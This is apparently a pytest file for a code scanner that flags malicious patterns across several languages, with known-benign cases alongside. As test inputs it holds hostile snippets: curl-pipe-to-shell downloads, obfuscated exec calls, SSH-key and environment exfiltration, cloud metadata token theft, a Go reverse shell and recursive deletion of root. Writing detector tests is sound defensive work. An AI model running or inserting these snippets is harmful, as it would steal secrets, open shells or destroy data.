"""What is carried where in other languages than Python, found by the rules of `capabilities`."""

from __future__ import annotations

import pytest

from codeguard.analysis import Reading
from codeguard.analysis.rules.base import DetectorContext
from codeguard.analysis.rules.capabilities import SIGNAL
from codeguard.corpus.chunking import chunk_file


def fired(text: str, name: str) -> set[str]:
    return {item.rule for item in SIGNAL.inspect(Reading(chunk_file(name, text.encode())), DetectorContext())}


@pytest.mark.parametrize(
    ("name", "text", "rule"),
    [
        ("a.js", "const {promisify} = require('util'); const run = promisify(require('child_process').exec); "
         "run('curl 127.0.0.1 | sh')", "download-and-run"),
        ("a.js", "const {token = 1, ...rest} = process.env; let body = ''; body += JSON.stringify(process.env); "
         "fetch('http://127.0.0.1', {method: 'POST', body})", "exfiltration"),
        ("a.ts", "class A { send(x: string) { fetch('http://127.0.0.1', {body: x}) } "
         "run() { this.send(require('fs').readFileSync('/home/a/.ssh/id_rsa')) } }", "exfiltration"),
        ("A.cs", 'class A { void F() { var code = new WebClient().DownloadString("http://127.0.0.1"); '
         'string run = $"/c {code}"; Process.Start("cmd", run); } }', "download-and-run"),
        ("A.cs", 'class A { async Task F(HttpClient c) { var all = Environment.GetEnvironmentVariables(); '
         'await new HttpClient().PostAsync("http://127.0.0.1", new StringContent(all.ToString())); } }',
         "exfiltration"),
        ("a.js", "const {env} = process; fetch('http://127.0.0.1', {body: JSON.stringify(env)})", "exfiltration"),
        ("a.js", "require('node:child_process').spawn('sh', ['-c', 'curl 127.0.0.1 | sh'])", "download-and-run"),
        ("a.js", "fetch('http://127.0.0.1').then(r => r.text()).then(c => (0, eval)(c))", "download-and-run"),
        ("a.mjs", "const {exec: e} = await import('child_process'); e('curl 127.0.0.1 | sh')", "download-and-run"),
        ("a.js", "function run() { eval(code) }\nlet code;\nfetch('http://127.0.0.1').then(r => r.text())"
         ".then(t => { code = t; run() })", "download-and-run"),  # carried upwards in the text
        ("a.js", "require(['child', 'process'].join('_'))['ex' + 'ec']('ls')", "decoded-exec"),
        ("a.js", "require('child_process')['cexe'.split('').reverse().join('')]('ls')", "decoded-exec"),
        ("a.js", "require('child_process')[['spawn', 'exec'][1]]('curl 127.0.0.1 | sh')", "download-and-run"),
        ("a.js", "require('child_process').exec(['cu', 'rl 127.0.0.1 | sh'].join(''))", "download-and-run"),
        ("a.js", "window.fetch('http://127.0.0.1').then(r => r.text()).then(c => eval(c))", "download-and-run"),
        ("a.js", "const f = [].filter.constructor; f(atob('Y29uc29sZS5sb2coMSk='))()", "decoded-exec"),
        ("a.js", "const F = (() => {}).constructor; F(atob('Y29uc29sZS5sb2coMSk='))()", "decoded-exec"),
        ("a.sh", "T=$(curl -s -X PUT http://169.254.169.254/latest/api/token)\ncurl -d \"$T\" https://in.example.net/\n",
         "exfiltration"),
        ("a.js", "require('dns').lookup(require('os').hostname() + '.invalid', f)", "reports-host"),
        ("a.js", "Object.prototype.shell = '/bin/sh'", "tampered-verification"),
        ("a.go", 'package a\nimport ("net/http"; "os"; "strings")\nfunc init() { http.Post("http://127.0.0.1", "t", '
         'strings.NewReader(strings.Join(os.Environ(), ""))) }', "exfiltration"),
        ("a.rb", "eval(URI.open('http://127.0.0.1/x').read)", "download-and-run"),
        ("a.php", "<?php $c = file_get_contents('http://127.0.0.1/x'); eval($c);", "download-and-run"),
        ("a.sh", "P=$(curl -s http://127.0.0.1/x)\neval \"$P\"\n", "download-and-run"),
        ("a.js", "require('fs').rmSync('/', {recursive: true})", "destroys"),
        ("a.ts", "(require('fs') as any).rmSync('/', {recursive: true})", "destroys"),
        ("a.ts", "(require('fs') satisfies object).rmSync('/', {recursive: true})", "destroys"),
        ("a.js", "require('fs').rmSync(require('os').homedir(), {recursive: true})", "destroys"),
        ("a.js", "import {exec as e} from 'child_process'; e('curl 127.0.0.1 | sh')", "download-and-run"),
        ("a.js", "require('child_process').exec('\\x63url 127.0.0.1 | sh')", "download-and-run"),
        ("a.js", "require('child_process').exec('\\u{63}url 127.0.0.1 | sh')", "download-and-run"),
        ("a.js", "require('child_process').exec('\\u0063url 127.0.0.1 | sh')", "download-and-run"),
        # What is decoded is no UTF-8.
        ("a.js", "require('child_process').exec(atob('Y3VybCAxMjcuMC4wLjEgfCBzaCAj/w=='))", "download-and-run"),
        ("a.js", "require('child_process').exec('\\143url 127.0.0.1 | sh')", "download-and-run"),
        ("a.js", "require('child_process').exec('curl 127.0.0.1 | \\u0062ash')", "download-and-run"),
        ("a.js", "require('child_process').exec(atob('Y3VybCAxMjcuMC4wLjEgfCBzaA'))", "download-and-run"),
        ("a.js", "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())", "decoded-exec"),
        ("a.js", "fetch('http://127.0.0.1', {method: 'POST', body: require('fs').readFileSync("
         "require('os').homedir() + '/.ssh/id_rsa')})", "exfiltration"),
        ("A.java", "import java.net.URL;\nclass A { void f() throws Exception { try (java.io.InputStream in = new URL("
         "\"http://127.0.0.1/x\").openStream()) { Runtime.getRuntime().exec(new String(in.readAllBytes())); } } }",
         "download-and-run"),
        ("a.go", 'package a\nimport ("net"; "os/exec")\nfunc f() { c, _ := net.Dial("tcp", "127.0.0.1:9"); '
         'p := exec.Command("sh"); p.Stdin, p.Stdout = c, c; p.Run() }', "reverse-shell"),
    ],
)  # fmt: skip
def test_malice(name: str, text: str, rule: str) -> None:
    assert rule in fired(text, name)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (
            "a.js",
            "fetch('http://127.0.0.1', {headers: {token: process.env.TOKEN}}).then(r => r.json()).then(show)",
        ),
        ("a.js", "const {execFile} = require('child_process'); execFile('git', ['describe'])"),
        # A text, not a decoded one.
        ("a.js", "eval(Buffer.from('console.log(1)', 'utf8').toString())"),
        # Elements that nobody can tell.
        ("a.js", "require('child_process')[['spawn', 'exec'][k]]('ls'); x[['a'][9]]('ls')"),
        # A block gives what it returns, not what it does.
        ("a.js", "const f = () => { fetch('http://127.0.0.1/x'); return 'a()' }; eval(f())"),
        ("a.js", "const fs = require('fs'); fs.writeFileSync('out.json', JSON.stringify(data))"),
        ("a.go", 'package a\nimport "os/exec"\nfunc f() { exec.Command("git", "describe").Run() }'),
        ("A.cs", 'class A { void F() { Process.Start("git", "describe"); } }'),
        ("a.sh", 'NAME=$(git describe)\necho "$NAME"\n'),
    ],
)
def test_honest(name: str, text: str) -> None:
    assert fired(text, name) <= {"sends-surroundings"}  # told, as low


def test_places_are_those_of_characters_not_of_bytes() -> None:
    code = "require('child_process').exec('curl 127.0.0.1 | sh')"
    places = []
    for prefix in ("/* ae, oe */\n", "/* é, 😀 */\n"):
        file = chunk_file("a.js", f"{prefix}{code}\n".encode())
        (found,) = SIGNAL.inspect(Reading(file), DetectorContext())
        places.append((found.start - len(prefix), found.end - len(prefix)))
    assert places[0] == places[1]
